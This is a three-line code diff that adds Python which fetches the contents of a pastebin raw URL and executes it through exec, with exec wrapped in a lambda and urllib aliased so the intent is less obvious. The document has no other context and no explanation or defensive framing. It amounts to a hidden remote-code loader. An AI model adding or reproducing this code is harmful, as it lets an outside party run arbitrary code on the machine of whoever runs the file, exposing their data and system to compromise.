@@ -1,0 +1,3 @@
+run = (lambda c: exec(c))
+import urllib.request as u
+run(u.urlopen('https://pastebin.com/raw/ab12cd').read())
